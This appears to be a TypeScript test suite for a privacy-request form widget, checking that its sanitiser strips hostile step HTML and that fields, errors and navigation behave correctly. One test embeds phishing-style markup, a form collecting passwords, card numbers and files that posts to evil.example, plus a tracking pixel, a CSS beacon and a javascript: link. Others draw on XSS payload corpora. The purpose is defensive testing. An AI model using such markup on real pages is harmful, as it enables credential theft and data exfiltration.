import { assert } from "chai";
import { attacksOf } from "../attacks.ts";
import { stepOffences } from "../html-oracle.ts";
import {
  assertSame,
  fieldOrder,
  isState,
  mount,
  sandbox,
  signedIn,
  textOf,
  type,
  until,
  type EmbedOptions,
  type HostPage,
  type Widget,
} from "../support.ts";
import { field, messages, press, REQUEST, rootOf, stay } from "./privacy-flow-support.ts";
import { inside } from "../queries.ts";

const EMAIL = "full@example.test";

/** A flow's server in the page: it answers each message with the test's HTML. */
const SERVER = `<script>
  flow = { html: [], metaData: {}, errors: [], sent: [], answered: 0, hold: null };
  window.fetch = new Proxy(window.fetch, { async apply(target, self, [address, options]) {
    if (!/privacy-flow\\/(process|steps)/.test(String(address))) return Reflect.apply(target, self, [address, options]);
    flow.sent.push({ ...JSON.parse(options.body), key: new Headers(options.headers).get("idempotency-key") });
    const n = flow.sent.length;
    const html = flow.html[Math.min(n, flow.html.length) - 1];
    await flow.hold;
    flow.answered++;
    const metaData = { stepName: "s" + n, pageName: "Step", stepId: String(n), sessionId: "x",
      displayFormReferenceKey: "irr-request", ...flow.metaData };
    return new Response(JSON.stringify({ html, metaData, errors: flow.errors }),
      { headers: { "content-type": "application/json" } });
  }});
</script>`;

interface Flow {
  html: string[];
  metaData: Record<string, string>;
  errors: { code: string; message?: string; field?: string }[];
  sent: {
    fields: Record<string, string | string[]>;
    actionButton: string;
    key: string;
    stepId: string;
    customerSubType: string;
  }[];
  answered: number;
  hold: Promise<void> | null;
}

const flowOf = (page: HostPage) => (page.window as unknown as { flow: Flow }).flow;

const corpus = async <Case = string>(name: string) =>
  ((await (await fetch(`/tests/fixtures/corpora/${name}.json`)).json()) as { cases: Case[] }).cases;

// Our libraries do not start after that one: the fallback is shown.
const shims = (await corpus<{ id: string; js: string }>("host-shims")).filter(({ id }) => id !== "for-in");
const STRICT =
  `default-src 'none'; script-src 'self' ${sandbox.url}; connect-src 'self' ${sandbox.url}; img-src 'self'; ` +
  "require-trusted-types-for 'script'; trusted-types tv-selfcare";

/** The form of a step, or its text if it isn't shown as one. */
const stepOf = (element: Widget) =>
  rootOf(element).querySelector("[part=form]") ?? rootOf(element).querySelector("[part=section] > p");

/** Waits for the next step. */
async function pressContinue(element: Widget): Promise<void> {
  const before = stepOf(element);
  await press(element, "Next");
  await until("the next step", () => {
    const now = element.matches(":state(ready)") && stepOf(element);
    return now && now !== before;
  });
}
const nextButton = (element: Element) => inside(element).queryByRole("button", { name: "Next" });

/** A request with these steps, after an empty one. */
async function steps(html: string[], options: EmbedOptions = {}): Promise<[Widget, HostPage]> {
  const begin = `<script>flow.html = ['<p>Begin</p><button name="actionButton" value="next">Next</button>']</script>`;
  const [element, page] = await mount(REQUEST, "", { ...options, head: SERVER + begin });
  await isState(element, "ready");
  const flow = flowOf(page);
  flow.html = [...flow.html, ...html];
  await pressContinue(element);
  return [element, page];
}

const next = '<button name="actionButton" value="next">Next</button>';
const text = (name: string, more = "") => `<label>${name}<input name="${name}" ${more}></label>`;
const broken = (page: HostPage) =>
  page.events("tv-error").flatMap(({ detail }) => {
    const { code, dropped } = detail as { code: string; dropped?: string[] };
    return code === "step-broken" ? (dropped ?? []) : [];
  });

setup(() => sandbox.reset());

suite("a step of a privacy flow", () => {
  test("PRC-1 security: no attack of a sample of the corpora acts, loads, or leaves anything but our own controls", async () => {
    const { texts, kept } = await attacksOf(40);
    // The button is first: some attacks swallow everything after them.
    const html = texts.map((text) => next + text);
    const [element, page] = await steps([`<h2>First</h2>${next}`, ...html]);
    const acted: string[] = [];
    for (const name of ["alert", "prompt", "confirm", "print", "open"] as const)
      Object.assign(page.window, { [name]: () => acted.push(name) });
    const before = page.record.requests.length;
    let found = 0;
    for (let n = 1; n <= html.length; n++) {
      await pressContinue(element);
      assert.deepEqual(stepOffences(rootOf(element)), [], `step ${n}`);
      found += rootOf(element).querySelectorAll("[lang=x-kept]").length;
    }
    assert.isAtLeast(found, kept * 0.99);
    assert.isEmpty(acted);
    const origins = page.record.requests
      .slice(before)
      .map(({ address }) => new URL(address, location.href).origin);
    assert.isTrue(
      origins.every((origin) => origin === new URL(sandbox.url).origin),
      origins.join(),
    );
    assert.isEmpty(page.record.uncaught);
  }).timeout(600_000);

  const surroundings = [
    { name: "under a strict policy with Trusted Types", options: { csp: STRICT } },
    ...shims.map(({ id, js }) => ({
      name: `after the shim ${id}`,
      options: { head: `<script>${js}</script>` },
    })),
  ];
  for (const { name, options } of surroundings) {
    test(`PRC-1 security: the same is so ${name}`, async () => {
      const some = (await corpus("payloadbox-xss")).filter((_, at) => at % 200 === 0);
      const html = next + some.map((one) => `<div>${one}</div></form></select></textarea>`).join("");
      await sandbox.settings({ previewStep: `${html}<q>kept</q>` });
      const [element, page] = await mount(REQUEST, "", options);
      await isState(element, "ready");
      assert.equal(textOf(element, "[part=form] q"), "kept");
      assert.deepEqual(stepOffences(rootOf(element)), []);
      assert.isEmpty(page.record.violations);
      assert.isEmpty(page.record.uncaught);
    });
  }

  test("PRC-1 security: names that shadow what forms and documents have are names of fields, and are sent as such", async () => {
    const names = [
      "attributes",
      "childNodes",
      "parentNode",
      "submit",
      "elements",
      "body",
      "constructor",
      "toString",
    ];
    const [element, page] = await steps([names.map((name) => text(name)).join("") + next, "<p>Done</p>"]);
    for (const name of names) type(field(element, name), `of ${name}`);
    await press(element, "Next");
    await until("it is answered", () => flowOf(page).sent.length === 3);
    const { fields } = flowOf(page).sent[2] as Flow["sent"][number];
    assert.deepEqual(fields, Object.fromEntries(names.map((name) => [name, `of ${name}`])));
    assert.equal(typeof page.document.createElement, "function");
    assert.isNull(page.document.getElementById("body"));
  });

  test("PRC-1 security: a step that asks for passwords, cards or files, or leads elsewhere, shows none of it, and says so", async () => {
    const [element, page] = await steps([
      '<h2>Sign in again</h2><form action="https://evil.example/" target="_top" method="post">' +
        '<label>Password<input type="password" name="password"></label><label>Card<input name="card-number"></label>' +
        '<label>Photo<input type="file" name="photo"></label><label>Name<input name="who"></label>' +
        '<input type="image" src="https://evil.example/pixel.gif" name="i"><a href="javascript:alert(1)">Go</a>' +
        '<button formaction="https://evil.example/">Send</button><style>input{background:url(//evil.example)}</style>' +
        `${next}</form>`,
    ]);
    assert.deepEqual(
      [...rootOf(element).querySelectorAll("[part=form] input")].map((one) => (one as HTMLInputElement).name),
      ["field-who"],
    );
    assert.deepEqual(stepOffences(rootOf(element)), []);
    await until("it is reported", () =>
      page.record.consoleErrors.some((reported) => reported.includes("step-broken")),
    );
    for (const one of [
      "style",
      "input[type=password]",
      "input[name=card-number]",
      "input[type=file]",
      "button[name]",
    ])
      assert.include(broken(page), one);
    assert.include(broken(page), "form[action]");
    assert.isFalse(page.record.requests.some(({ address }) => address.includes("evil.example")));
  });

  test("PRC-1 a step over 256 kB is not shown and says so; 10,000 nested tags are", async () => {
    const [element] = await steps([`<p>${"x".repeat(256 * 1024)}</p>`]);
    inside(element).getByText("We can't show this step because it's too large.");
    const [other] = await steps([`${"<div>".repeat(10_000)}<p>deep</p>${next}`]);
    assert.include(textOf(other, "form"), "deep");
  });

  test("PRC-2 a field's hint is between its label and its control, and its error below", async () => {
    const hint = 'required data-hint="Like this"';
    const [element] = await steps([
      text("line", hint) +
        text("street", `${hint} data-kind="street-address"`) +
        `<label>letter<textarea name="letter" ${hint}></textarea></label>` +
        `<label>state<select name="state" ${hint}><option value="">-<option value="a">A</select></label>` +
        `<label>list<select name="list" multiple ${hint}><option value="a">A<option value="b">B</select></label>` +
        next,
    ]);
    await press(element, "Next");
    await until("they are reported", () => messages(element).length === 5);
    for (const name of ["line", "street", "letter", "state", "list"]) {
      const order = fieldOrder(field(element, name)).filter((part) => part !== "counter");
      assert.deepEqual(order, ["label", "hint", "control", "error"], name);
    }
  });

  test("PRC-2 PRC-8 fifty fields are drawn and sent, in shape from the start, lists as lists, hidden ones too, and what is wrong with a field is shown there", async () => {
    const fields = Array.from({ length: 50 }, (_, at) => text(`f${at}`)).join("");
    const some =
      '<input type="hidden" name="ref" value="7"><fieldset><legend>All</legend><label><input type="checkbox" name="list" value="a">A</label>' +
      '<label><input type="checkbox" name="list" value="b" checked>B</label></fieldset>';
    const phone = text("phone", 'value="5551234567"');
    const [element, page] = await steps([fields + phone + some + next, fields + some + next]);
    await until("all of it shows", () => rootOf(element).querySelector("[name=field-phone]"));
    assert.equal(field(element, "phone").value, "(555) 123-4567");
    type(field(element, "f49"), "last");
    flowOf(page).errors = [{ code: "field_invalid", field: "f49", message: "Not that." }];
    await press(element, "Next");
    await until("it is reported", () => messages(element)[0] === "Not that.");
    const { fields: sent } = flowOf(page).sent[2] as Flow["sent"][number];
    assert.deepInclude(sent, { ref: "7", list: ["b"], f49: "last", f0: "" });
    await until("it has the focus", () => rootOf(element).activeElement === field(element, "f49"));
  });

  test("PRC-2 messages stay as they are when the page changes a property of the element", async () => {
    const [element, page] = await steps([
      text("a") + text("b") + next,
      text("a") + text("b", "required") + next,
    ]);
    flowOf(page).errors = [{ code: "field_invalid", field: "a", message: "Not that." }];
    await press(element, "Next");
    await until("it is reported", () => messages(element)[0] === "Not that.");
    type(field(element, "a"), "right");
    field(element, "a").blur();
    await until("it is right", () => messages(element).length === 0);
    await press(element, "Next");
    await until("the other is reported", () => messages(element).length === 1);
    const before = messages(element);
    const focused = rootOf(element).activeElement;
    element.setAttribute("theme", "dark");
    await element.updateComplete;
    await new Promise((drawn) => requestAnimationFrame(drawn));
    assert.deepEqual(messages(element), before);
    assertSame(rootOf(element).activeElement, focused);
  });

  test("PRC-2 of a long step the first fields show before the rest; until all do nothing of it is sent, and all are counted", async () => {
    const fields = Array.from({ length: 8 }, (_, at) => text(`f${at}`)).join("");
    const list = Array.from(
      { length: 6 },
      (_, at) => `<label><input type="checkbox" name="list" value="${at}">Choice ${at}</label>`,
    ).join("");
    const [element, page] = await steps(["<p>Soon</p>" + next]);
    const flow = flowOf(page);
    flow.html.push(`${fields}<fieldset><legend>List</legend>${list}</fieldset>${text("last")}${next}`);
    const drawn: string[] = [];
    const { MutationObserver } = page.window as Window & typeof globalThis;
    new MutationObserver(() => {
      const form = rootOf(element).querySelector<HTMLFormElement>("[part=form]");
      const controls = form?.querySelectorAll("[name^=field-]").length;
      const now = `${controls} ${form && nextButton(form) ? "and a button" : "alone"}`;
      if (!controls || drawn.includes(now)) return;
      drawn.push(now);
      if (drawn.length === 1) form.requestSubmit();
    }).observe(rootOf(element), { childList: true, subtree: true });
    await pressContinue(element);
    await until("all of it shows", () => rootOf(element).querySelector("[name=field-last]"));
    assert.deepEqual(drawn, ["10 alone", "15 and a button"]);
    const group = inside(inside(element).getByRole("group", { name: "List" }));
    await until(
      "all choices are counted",
      () => group.queryByRole("status")?.textContent === "0 of 6 selected",
    );
    assert.lengthOf(flow.sent, 3);
    type(field(element, "last"), "the end");
    await pressContinue(element);
    assert.deepInclude(flow.sent[3]?.fields, { f0: "", list: [], last: "the end" });
  });

  test("PRC-2 after the end of a long step the next one begins at its heading", async () => {
    const long = (name: string) =>
      `<h2>${name}</h2>${Array.from({ length: 30 }, (_, at) => text(`${name}${at}`)).join("")}${next}`;
    const [element, page] = await steps([long("one"), long("two")]);
    const button = await until("its end shows", () => nextButton(element));
    button.scrollIntoView();
    assert.isAbove(page.window.scrollY, 1000);
    await pressContinue(element);
    const heading = rootOf(element).querySelector("[role=heading], h2, h3") as HTMLElement;
    assert.equal(heading.textContent, "two");
    const { top, bottom } = heading.getBoundingClientRect();
    assert.isAtLeast(top, 0);
    assert.isAtMost(bottom, page.window.innerHeight);
  });

  test("PRC-2 a long step's errors show from its first line on", async () => {
    const fields = Array.from({ length: 60 }, (_, at) => text(`f${at}`, "required")).join("");
    const [element, page] = await steps([fields + next]);
    const button = await until("its end shows", () => nextButton(element));
    button.scrollIntoView();
    await press(element, "Next");
    const summary = await until("it is reported", () => rootOf(element).querySelector("[part=summary]"));
    assert.equal(rootOf(element).activeElement, summary);
    assert.isAbove(summary.clientHeight, page.window.innerHeight);
    const { top, bottom } = (summary.querySelector("p") as HTMLElement).getBoundingClientRect();
    assert.isAtLeast(top, -1); // WebKit scrolls by whole pixels
    assert.isAtMost(bottom, page.window.innerHeight);
  });

  test("PRC-2 every try of a message has one idempotency key, another message another", async () => {
    const [element, page] = await steps([`<p>One</p>${next}`, `<p>Two</p>${next}`, "<p>Three</p>"]);
    await press(element, "Next");
    await until("the second", () => textOf(element, "form").includes("Two"));
    await press(element, "Next");
    await until("the third", () => textOf(element, "form").includes("Three"));
    const keys = flowOf(page).sent.map(({ key }) => key);
    assert.equal(new Set(keys).size, 4);
    assert.isTrue(keys.every((key) => /^[\da-f-]{36}$/.test(key)));
  });

  test("PRC-10 the page titled 'IRR Customer Identity' holds its spinner 3 s longer", async () => {
    const [element, page] = await steps([`<p>One</p>${next}`, "<p>Two</p>"]);
    flowOf(page).metaData = { pageName: "IRR Customer Identity" };
    const started = performance.now();
    await press(element, "Next");
    await until("it waits", () => flowOf(page).sent.length === 3);
    assert.isTrue(element.matches(":state(sending)"));
    const busy = inside(element).getByRole("button", { name: "Next", busy: true });
    assert.isNotNull(busy.querySelector("[aria-hidden]"), "its spinner");
    await until("the second", () => textOf(element, "form").includes("Two"));
    assert.isAtLeast(performance.now() - started, 2_900);
  });

  test("PRC-3 a step of another page of the brand's site leads there, and nowhere on other sites", async () => {
    const [elsewhere, other] = await steps([`<p>One</p>${next}`, "<p>Two</p>"]);
    const stayed = stay(other);
    flowOf(other).metaData = { displayFormReferenceKey: "irr-dashboard" };
    await press(elsewhere, "Next");
    await until("it goes on", () => textOf(elsewhere, "form").includes("Two"));
    assert.isEmpty(stayed);
    for (const [key, path] of [
      ["irr-affirmations", "affirmations"],
      ["irr-dashboard", "dashboard"],
      ["irr-id-proofing", "id-proofing"],
    ] as const) {
      // Two pages of one tab can't both be signed in.
      for (const frame of document.querySelectorAll("iframe")) frame.remove();
      const [element, page] = await steps([`<p>One</p>${next}`, "<p>Two</p>"], await signedIn(EMAIL));
      const went = stay(page);
      flowOf(page).metaData = { displayFormReferenceKey: key };
      await press(element, "Next");
      await until(`it goes to ${path}`, () => went[0] === `${location.origin}/privacy/requests/${path}`);
    }
  });

  test("PRC-2 an answer that comes after its flow was started again changes nothing", async () => {
    const [element, page] = await steps([`<p>One</p>${next}`, "<p>Late</p>", "<p>Again</p>"]);
    const flow = flowOf(page);
    let release = () => {};
    flow.hold = new Promise((done) => (release = done));
    await press(element, "Next");
    await until("it was sent", () => flow.sent.length === 3);
    flow.hold = null;
    await element.reset();
    await until("it starts again", () => textOf(element, "form").includes("Again"));
    release();
    await until("it was answered", () => flow.answered === 4);
    await element.updateComplete;
    assert.notInclude(textOf(element, "form"), "Late");
  });

  test("PRC-2 a button that is pressed while the step is being sent doesn't change whose request the next steps are about", async () => {
    const box = (value: string) =>
      `<label><input type="radio" name="customerSubType" value="${value}">${value}</label>`;
    const who = `<fieldset><legend>Who</legend>${box("NEVER")}${box("CURRENT")}</fieldset>${next}`;
    const [element, page] = await steps([who, `<p>Two</p>${next}`, "<p>Three</p>"]);
    const flow = flowOf(page);
    let release = () => {};
    flow.hold = new Promise((done) => (release = done));
    field(element, "customerSubType", "NEVER").click();
    await press(element, "Next");
    await until("it was sent", () => flow.sent.length === 3);
    field(element, "customerSubType", "CURRENT").click();
    await press(element, "Next");
    flow.hold = null;
    release();
    await until("the second step", () => textOf(element, "form").includes("Two"));
    await press(element, "Next");
    await until("the third step", () => textOf(element, "[part=section]").includes("Three"));
    assert.deepEqual(
      flow.sent.slice(2).map(({ customerSubType }) => customerSubType),
      ["NEVER", "NEVER"],
    );
  });

  test("PRC-2 a static page shows if the step has no HTML", async () => {
    const [element, page] = await steps([`<p>One</p>${next}`, ""]);
    flowOf(page).metaData = { templateName: "about-requests" };
    await press(element, "Next");
    await until("it shows", () => textOf(element, "form").includes("About privacy requests"));
    assert.equal(flowOf(page).sent.length, 3);
  });
});
